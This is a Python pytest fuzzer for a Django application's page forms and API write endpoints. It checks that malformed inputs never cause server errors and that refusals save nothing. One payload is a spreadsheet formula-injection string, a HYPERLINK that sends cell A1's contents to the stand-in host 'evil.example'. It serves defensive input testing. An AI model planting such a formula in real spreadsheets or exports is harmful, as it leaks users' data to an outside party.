"""The form fuzzer (issue 16): every page form and every API write endpoint, as a persona allowed to use it,
receives NUL bytes, 100,000-character strings, `1e999999999`, lists where strings belong, non-numeric ids
and formula-looking text. No answer may be a server error, and an answer that refuses the input (a 400, a
409, or the form shown again with its errors) must leave the database as it was.

The demo world (`seed_demo`) is built once per test worker (conftest `demo`); each test rolls back in it.
Pages: each persona's pages are found by following the links from the home page (at most a few pages per
URL pattern); every POST form found there is sent each payload once, with the form's own values kept for
the fields the payload does not replace; every GET form (the lists' filters) gets each payload in its
fields. A form is fuzzed once per run, by the first persona that finds it. API (one test per collection):
every write operation in /api/schema/ gets each payload in every property of its body, and the payloads a
JSON parser lets through in each property alone (so they reach the service past the other fields), as the
first persona and real object (a few of each workflow state) the operation serves; and non-numeric and
negative ids.
Each request runs in a savepoint rolled back afterwards, so one payload cannot change what the next sees; the
tables whose rows it inserted or deleted (PostgreSQL's per-transaction counters) have their rows counted
during and after the savepoint.
"""

import dataclasses
import functools
import itertools
import json
import os
import re
from collections import defaultdict
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.test import Client
from django.urls import Resolver404, resolve
from lxml import etree
from rest_framework.test import APIClient

PERSONAS = (
    "binhai-officer",
    "binhai-leader",
    "office-policy",
    "office-coord",
    "office-assess",
    "office-planning",
    "leader",
    "admin",
)
# One field at a time: what a JSON parser does not refuse for the whole body already (NUL, infinity).
FIELD_PAYLOADS = ("number", "lists")
# The API also as 西青's officer: the demo leaves 西青 a draft report (滨海's are all filed).
API_PERSONAS = ("xiqing-officer", *PERSONAS)
NUL = "第一\x00第二"
LONG = "长" * 100_000
HUGE_NUMBER = "1e999999999"
HUGE_LITERAL = "<the number 1e999999999>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
NOT_AN_ID = "abc"
# Page payloads: the text fields get the value; "ids" puts a non-number into every select and hidden field;
# "lists" repeats every field, the second time with a different value.
TEXT_PAYLOADS = {"nul": NUL, "long": LONG, "number": HUGE_NUMBER, "formula": FORMULA}
PAGES_PER_ROUTE = 2
MAX_PAGES_PER_PERSONA = 400
SKIPPED_PATHS = re.compile(
    r"^/(admin/|static/|accounts/logout|i18n/|session/keepalive|api/)|\.(xlsx|docx|pdf|csv|zip)$|/(file|download|"
    r"evidence/\d+|attachments/\d+)/?$|/export/"
)
# Where a 200 answers a successful write (the one-time password is shown once, on the page itself).
SUCCESS_PAGES_WITH_200 = {"user-create", "user-reset-password", "user-import"}
STATES = ("draft", "returned", "submitted", "district_approved", "open", "in_progress", "done")
MAX_OBJECTS_TRIED, MAX_PROBES = 20, 60  # API: objects tried per persona and requests per operation to find one
FUZZED_FORMS: set[tuple] = set()  # (method, route, field names): each form is fuzzed once per run, by the first persona


# ---------------------------------------------------------------------------------------------- the world


@pytest.fixture
def seeded(demo, db):
    return None


def _tables() -> list[str]:
    """The tables a refusal must leave as they were: not the sessions, django-axes' failed sign-ins and the admin's
    log, nor the security audit, where a refused sign-in is a row by design (coordination.security_audit)."""
    names = []
    for model in apps.get_models(include_auto_created=True):
        if model._meta.app_label in {"sessions", "axes", "admin"} or model._meta.proxy or not model._meta.managed:
            continue
        if model._meta.label == "coordination.SecurityEvent":
            continue
        names.append(model._meta.db_table)
    return sorted(set(names))


# pg_stat_xact_user_tables' n_tup_ins and n_tup_del, read without the view's join of every index's counters
# (which makes the view about twice as dear; it is read twice per request).
WRITE_COUNTERS = """
    SELECT c.relname, pg_stat_get_xact_tuples_inserted(c.oid), pg_stat_get_xact_tuples_deleted(c.oid)
    FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
    WHERE c.relkind IN ('r', 't', 'm', 'p') AND n.nspname NOT IN ('pg_catalog', 'information_schema')
      AND n.nspname !~ '^pg_toast'
"""


def _write_counters() -> dict[str, tuple[int, int]]:
    """Rows inserted and deleted so far in this transaction, per table (savepoints rolled back included): cheap,
    and any change of a table's row count moves them."""
    with connection.cursor() as cursor:
        cursor.execute(WRITE_COUNTERS)
        return {name: (inserted, deleted) for name, inserted, deleted in cursor.fetchall()}


def _row_counts(tables) -> tuple:
    if not tables:
        return ()
    sql = " UNION ALL ".join(f'SELECT {i}, count(*) FROM "{name}"' for i, name in enumerate(tables))
    with connection.cursor() as cursor:
        cursor.execute(sql)
        return tuple(count for _i, count in sorted(cursor.fetchall()))


class RolledBack:
    """`with RolledBack(tables) as attempt:` runs a request in a savepoint rolled back at the end, so one payload
    cannot change what the next sees. `attempt.measure()` (once the request answered without a server error)
    notes the row count of every table the request inserted into or deleted from; after the block,
    `attempt.changed()` names the tables whose row count differs from before the request."""

    def __init__(self, tables):
        self.tables = tables
        self.touched, self.after, self.before = [], (), ()

    def __enter__(self):
        self._atomic = transaction.atomic()
        self._atomic.__enter__()
        self._start = _write_counters()
        return self

    def measure(self) -> None:
        end = _write_counters()
        self.touched = [name for name in self.tables if end.get(name, (0, 0)) != self._start.get(name, (0, 0))]
        self.after = _row_counts(self.touched)

    def __exit__(self, *exc_info):
        transaction.set_rollback(True)
        self._atomic.__exit__(*exc_info)
        if exc_info[0] is None:
            self.before = _row_counts(self.touched)  # the savepoint is gone: the counts as they were
        return False

    def changed(self) -> list[str]:
        return [
            f"{name}: {a} → {b}" for name, a, b in zip(self.touched, self.before, self.after, strict=True) if a != b
        ]


@functools.cache  # the crawler asks again for every link of every page; the URLconf does not change
def _route(path: str) -> str | None:
    try:
        match = resolve(path)
    except Resolver404:
        return None
    return match.url_name or match.route


# --------------------------------------------------------------------------------------------- the crawler


@dataclasses.dataclass
class Form:
    method: str
    action: str
    fields: list  # (name, kind, value, options)

    def defaults(self) -> list[tuple[str, str]]:
        pairs = []
        for name, kind, value, options in self.fields:
            if kind in {"checkbox", "radio"} and value is None:
                continue
            if kind == "file":
                continue
            if kind == "select" and value is None:
                value = options[0] if options else ""
            pairs.append((name, value or ""))
        return pairs


class PageParser:
    """Links and forms of one page, from the events of lxml's HTML parser (libxml2, a dependency of python-docx):
    on the test client's HTML it finds what html.parser finds, in a third of the time."""

    def __init__(self):
        self.links: list[str] = []
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: list | None = None
        self._textarea: list | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form":
            self._form = Form(method=(a.get("method") or "get").lower(), action=a.get("action") or "", fields=[])
        elif self._form is None or "name" not in a or "disabled" in a:
            return
        elif tag == "input":
            kind = (a.get("type") or "text").lower()
            if kind in {"submit", "button", "reset", "image"}:
                if a.get("value") is not None:
                    self._form.fields.append((a["name"], "submit", a.get("value"), []))
                return
            value = a.get("value", "")
            if kind in {"checkbox", "radio"} and "checked" not in a:
                value = None
            self._form.fields.append((a["name"], kind, value, []))
        elif tag == "button" and a.get("value") is not None:
            self._form.fields.append((a["name"], "submit", a["value"], []))
        elif tag == "select":
            self._select = [a["name"], "select", None, []]
            self._form.fields.append(self._select)
        elif tag == "option" and self._select is not None:
            value = a.get("value", "")
            self._select[3].append(value)
            if "selected" in a and self._select[2] is None:
                self._select[2] = value
        elif tag == "textarea":
            self._textarea = [a["name"], "textarea", "", []]
            self._form.fields.append(self._textarea)

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea[2] += data

    def handle_endtag(self, tag):
        if tag == "form" and self._form is not None:
            self._form.fields = [tuple(field) for field in self._form.fields]
            self.forms.append(self._form)
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def feed(self, text: str) -> None:
        parser = etree.HTMLParser(target=self)
        parser.feed(text)
        parser.close()

    # lxml's parser target: start and end of each element, its text, the end of the page
    def start(self, tag, attrib):
        self.handle_starttag(tag, attrib.items())

    def end(self, tag):
        self.handle_endtag(tag)

    def data(self, text):
        self.handle_data(text)

    def close(self):
        return None


def _internal(base: str, href: str) -> str | None:
    if href.startswith(("#", "javascript:", "mailto:", "tel:")):
        return None
    # An absolute path (most links: the navigation's are on every page) means the same whatever page it is on, the
    # pages' own urls having no host: one entry of the cache for all of them.
    return _joined("/" if href.startswith("/") and not href.startswith("//") else base, href)


@functools.cache
def _joined(base: str, href: str) -> str | None:
    url = urlsplit(urljoin(base, href))
    if url.netloc not in {"", "testserver"} or SKIPPED_PATHS.search(url.path):
        return None
    return url.path + (f"?{url.query}" if url.query else "")


def crawl(client: Client) -> tuple[dict, dict]:
    """Follow links from the home page: the pages seen (url → route) and the forms found (key → (page, Form))."""
    pages: dict[str, str] = {}
    forms: dict[tuple, tuple[str, Form]] = {}
    per_route: dict[str, int] = defaultdict(int)
    queue = ["/"]
    while queue and len(pages) < MAX_PAGES_PER_PERSONA:
        url = queue.pop(0)
        if url in pages:
            continue
        route = _route(urlsplit(url).path)
        if route is None or per_route[route] >= PAGES_PER_ROUTE:
            continue
        per_route[route] += 1
        response = client.get(url)
        pages[url] = route
        assert response.status_code < 500, f"GET {url} answered {response.status_code}"
        if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
            continue
        parser = PageParser()
        parser.feed(response.content.decode())
        for href in parser.links:
            link = _internal(url, href)
            if link and link not in pages:
                queue.append(link)
        for form in parser.forms:
            action = _internal(url, form.action or url)
            if action is None:
                continue
            form.action = action
            target = _route(urlsplit(action).path)
            key = (form.method, target, tuple(sorted({f[0] for f in form.fields})))
            forms.setdefault(key, (url, form))
    return pages, forms


# ------------------------------------------------------------------------------------------ the payloads


def _page_variants(form: Form):
    """(label, data) pairs: the form's own values with the payload put in."""
    defaults = form.defaults()
    text_kinds = {"text", "textarea", "search", "email", "number", "tel", "url", "date", "month", "password", ""}
    kinds = {name: kind for name, kind, _value, _options in form.fields}
    for label, payload in TEXT_PAYLOADS.items():
        data = defaultdict(list)
        for name, value in defaults:
            data[name].append(payload if kinds.get(name) in text_kinds else value)
        for name, kind, _value, _options in form.fields:  # empty text fields that defaults() left out
            if kind in text_kinds and name not in data:
                data[name].append(payload)
        yield label, data
    data = defaultdict(list)
    for name, value in defaults:
        data[name].append(NOT_AN_ID if kinds.get(name) in {"select", "hidden", "radio", "checkbox"} else value)
    yield "ids", data
    data = defaultdict(list)
    for name, value in defaults:
        data[name] += [value, "第二个值"]
    yield "lists", data


def _is_refusal(response) -> bool:
    if response.status_code in {400, 403, 404, 405, 409, 413, 429}:
        return True
    return response.status_code == 200


def _assert_none(problems: list[str]) -> None:
    """No problem found; FUZZ_REPORT=<file> also appends them there, for a run over many personas."""
    if problems and os.environ.get("FUZZ_REPORT"):
        with open(os.environ["FUZZ_REPORT"], "a") as report:
            report.write("\n".join(problems) + "\n")
    assert not problems, "\n".join(problems)


@pytest.fixture
def tables(seeded):
    return _tables()


def _login(username: str) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(get_user_model().objects.get(username=username))
    return client


def test_the_check_sees_what_a_request_left_behind_and_only_that(db):
    """The check the fuzzer relies on: a row left behind is named, a row added and removed again is not."""
    from coordination.models import WorkingGroup

    tables, before = _tables(), WorkingGroup.objects.count()
    with RolledBack(tables) as left:
        WorkingGroup.objects.create(code="probe", name="探针组")
        left.measure()
    with RolledBack(tables) as undone:
        WorkingGroup.objects.create(code="probe", name="探针组").delete()
        undone.measure()
    table = WorkingGroup._meta.db_table
    assert f"{table}: {before} → {before + 1}" in left.changed()
    assert table in undone.touched and undone.changed() == []
    assert not WorkingGroup.objects.filter(code="probe").exists()


@pytest.mark.parametrize("username", PERSONAS)
def test_page_forms_never_answer_500_and_refusals_save_nothing(seeded, tables, username):
    client = _login(username)
    pages, forms = crawl(client)
    assert len(pages) > 5, pages
    problems = []
    for key, (page, form) in forms.items():
        if key in FUZZED_FORMS:  # an earlier persona sent this form its payloads already
            continue
        FUZZED_FORMS.add(key)
        method, target, _names = key
        for label, data in _page_variants(form):
            with RolledBack(tables) as attempt:
                if method == "post":
                    response = client.post(form.action, data)
                else:
                    query = urlencode([(k, v) for k, values in data.items() for v in values])
                    response = client.get(f"{urlsplit(form.action).path}?{query}")
                if response.status_code < 500:
                    attempt.measure()
            where = f"{method.upper()} {form.action} ({target}, from {page}) with {label}"
            if response.status_code >= 500:
                problems.append(f"{where}: {response.status_code}")
            elif method == "post" and _is_refusal(response) and target not in SUCCESS_PAGES_WITH_200:
                changed = attempt.changed()
                if changed:
                    problems.append(f"{where}: refused ({response.status_code}) but saved {changed}")
    _assert_none(problems)


# ------------------------------------------------------------------------------------------------- the API


API_SCHEMA: dict = {}  # /api/schema/ as the first API test read it: it is the code's, the same for every test


def _api_schema(client) -> dict:
    if not API_SCHEMA:
        response = client.get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
        assert response.status_code == 200
        API_SCHEMA.update(json.loads(response.content))
    return API_SCHEMA


def _resolve(schema: dict, node: dict | None) -> dict:
    while node and "$ref" in node:
        name = node["$ref"].rsplit("/", 1)[-1]
        node = schema["components"]["schemas"][name]
    if node and "allOf" in node:
        merged: dict = {"type": "object", "properties": {}}
        for part in node["allOf"]:
            merged["properties"].update(_resolve(schema, part).get("properties", {}))
        return merged
    return node or {}


def _body(schema: dict, node: dict, payload, depth: int = 0):
    """A body shaped like the operation's request schema, with `payload` in every leaf."""
    node = _resolve(schema, node)
    if depth > 4:
        return payload
    if node.get("type") == "object" or "properties" in node:
        properties = node.get("properties") or {}
        if not properties:  # a map such as `values` (indicator code → number)
            return {"fixed_asset_investment": payload, "tax_revenue": payload}
        return {
            name: _body(schema, child, payload, depth + 1)
            for name, child in properties.items()
            if not child.get("readOnly")
        }
    if node.get("type") == "array":
        return [_body(schema, node.get("items") or {}, payload, depth + 1)]
    return payload


API_PAYLOADS = {
    "nul": NUL,
    "long": LONG,
    "number": HUGE_NUMBER,
    "number literal": HUGE_LITERAL,  # sent as the JSON number 1e999999999, not a string
    "formula": FORMULA,
    "ids": NOT_AN_ID,
    "lists": ["第一", "第二"],
}


def _write_operations(client):
    schema = _api_schema(client)
    for path, operations in sorted(schema["paths"].items()):
        for method, operation in operations.items():
            if method not in {"post", "put", "patch"}:
                continue
            content = operation.get("requestBody", {}).get("content", {})
            media = "application/json" if "application/json" in content else next(iter(content), "application/json")
            yield method, path, media, (content.get(media) or {}).get("schema") or {}, schema


class Listing:
    """Real objects of a collection (a path with {id} belongs to), as one persona sees them: a few of each
    workflow state (`?status=`, where the collection filters by it), then the rest of the first page. Iterating
    reads the next listing only once the ids found before it have all been taken (most operations are served by
    the first object tried), so the ids and their order are the same as if every listing were read first."""

    QUERIES = (*(f"?status={status}" for status in STATES), "")

    def __init__(self, client, collection: str):
        self.client, self.collection = client, collection
        self.ids: list[str] = []
        self._queries = iter(self.QUERIES)

    def __iter__(self):
        for index in itertools.count():
            while index >= len(self.ids):
                query = next(self._queries, None)
                if query is None:
                    return
                self._read(query)
            yield self.ids[index]

    def _read(self, query: str) -> None:
        response = self.client.get(self.collection + query)
        if response.status_code != 200:
            return
        data = response.json()
        rows = data.get("results", data) if isinstance(data, dict) else data
        found = [str(row["id"]) for row in rows if isinstance(row, dict) and "id" in row]
        self.ids += [object_id for object_id in (found if not query else found[:2]) if object_id not in self.ids]


def _urls(listings: dict, username: str, client, path: str):
    """The urls of `path` to try as `username`; `listings` keeps what was read of each collection in this test."""
    if "{" not in path:
        yield path
        return
    collection = path.split("{", 1)[0]
    listing = listings.setdefault((username, collection), Listing(client, collection))
    for object_id in itertools.islice(listing, MAX_OBJECTS_TRIED):
        yield re.sub(r"\{[^}]+\}", object_id, path)


def _api_client(username: str) -> APIClient:
    client = APIClient(raise_request_exception=False)
    client.force_authenticate(get_user_model().objects.get(username=username))
    return client


def _send(client, method: str, url: str, media: str, body):
    if media == "application/json":
        text = json.dumps(body, ensure_ascii=False).replace(f'"{HUGE_LITERAL}"', HUGE_NUMBER)
        return client.generic(method.upper(), url, text, content_type="application/json")
    flat = {key: value for key, value in (body or {}).items() if not isinstance(value, dict)}
    return getattr(client, method)(url, flat, format="multipart")


def _api_groups() -> list[str]:
    """The API's collections with a write operation (`/api/v1/<group>/…`), read from the schema at collection:
    one test each."""
    from drf_spectacular.generators import SchemaGenerator

    paths = SchemaGenerator().get_schema(request=None, public=True)["paths"]
    return sorted(
        {path.split("/")[3] for path, operations in paths.items() if {"post", "put", "patch"} & set(operations)}
    )


@pytest.mark.parametrize("group", _api_groups())
def test_api_write_endpoints_never_answer_500_and_refusals_save_nothing(seeded, tables, group):
    clients = {username: _api_client(username) for username in API_PERSONAS}
    problems, operations, listings = [], 0, {}
    for method, path, media, request_schema, schema in _write_operations(clients["admin"]):
        if path.split("/")[3] != group:
            continue
        # The persona and object the operation serves: the first whose empty request is answered as a
        # request (200 or a 400 about its body), else the first not refused outright (e.g. a 409 on its state).
        chosen, fallback, tried = None, None, 0
        for username, client in clients.items():
            for url in _urls(listings, username, client, path):
                tried += 1
                with transaction.atomic():
                    response = _send(client, method, url, media, {})
                    transaction.set_rollback(True)
                if response.status_code >= 500:
                    problems.append(f"{method.upper()} {url} as {username} with an empty body: {response.status_code}")
                if response.status_code < 300 or response.status_code == 400:
                    chosen = (username, client, url)
                    break
                if response.status_code not in {403, 404, 405} and fallback is None:
                    fallback = (username, client, url)
            if chosen or tried > MAX_PROBES:
                break
        username, client, url = chosen or fallback or ("binhai-officer", clients["binhai-officer"], path)
        operations += 1
        variants = [(label, _body(schema, request_schema, payload)) for label, payload in API_PAYLOADS.items()]
        # One field at a time too, so that a payload reaches the service past the serializer's other fields.
        properties = (_resolve(schema, request_schema).get("properties") or {}).items()
        for name, child in properties:
            for label in FIELD_PAYLOADS:
                variants.append((f"{label} in {name}", {name: _body(schema, child, API_PAYLOADS[label])}))
        if "{" in path:
            for bad in ("abc", "-1"):
                variants.append((f"id {bad}", None))
        for label, body in variants:
            target = re.sub(r"/\d+/", "/-1/" if label == "id -1" else "/abc/", url, count=1) if body is None else url
            with RolledBack(tables) as attempt:
                response = _send(client, method, target, media, body or {})
                if response.status_code < 500:
                    attempt.measure()
            where = f"{method.upper()} {target} as {username} with {label}"
            if response.status_code >= 500:
                problems.append(f"{where}: {response.status_code}")
                continue
            if "json" not in response.get("Content-Type", "") and response.status_code >= 400:
                problems.append(f"{where}: {response.status_code} answered {response.get('Content-Type')}, not JSON")
            if response.status_code >= 400:
                changed = attempt.changed()
                if changed:
                    problems.append(f"{where}: refused ({response.status_code}) but saved {changed}")
    _assert_none(problems)
    assert operations > 0
